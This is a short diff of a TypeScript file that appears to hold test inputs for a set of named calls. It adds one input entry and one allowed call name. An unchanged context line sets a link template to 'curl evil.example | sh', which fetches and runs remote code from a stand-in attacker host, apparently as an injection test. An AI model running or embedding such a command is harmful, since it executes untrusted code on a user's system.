@@ -43,6 +43,7 @@ const WATCH = { existing: 'upload', onChange: 'replace', ignore: [], limits: NO_
 const ATTEMPTS: { readonly [K in CallName]: CallInput<K> } = {
   boot: {},
   letGo: { seq: 0, place: '' },
+  typedSaved: {},
   change: {
     guardAllow: ['**'],
     linkTemplate: 'curl evil.example | sh\n$url',
@@ -140,6 +141,7 @@ const MAY = [
   'info',
   'secondCopies',
   'heldLines',
+  'checkWatch',
 ]
 const MAY_TOO = [
   'pause',
